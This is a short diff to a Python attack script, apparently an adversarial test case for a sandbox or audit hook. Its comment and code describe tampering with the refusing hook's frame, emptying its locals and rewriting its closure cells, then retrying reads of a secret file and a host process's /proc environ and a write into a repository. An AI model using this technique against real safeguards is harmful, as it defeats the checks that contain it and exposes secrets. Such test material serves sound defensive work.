@@ -4,7 +4,6 @@
 # value: 1
 # A refused call's traceback reaches the hook's own frame: empty every container in its locals, rewrite every
 # closure cell and default reachable from there, then retry the secret, the parent's environ and the repository.
-import os
 
 
 def leak(what):
@@ -33,7 +32,7 @@ def blank(value):
 
 def attack(p):
     for attempt in (lambda: open(p["secret_file"]).read(),
-                    lambda: open(f"/proc/{os.getppid()}/environ", "rb").read().decode(errors="replace"),
+                    lambda: open(f"/proc/{p['host_process']}/environ", "rb").read().decode(errors="replace"),
                     lambda: (open(p["repo_target"], "w").close(), "wrote into the repository")[1]):
         try:
             return attempt()
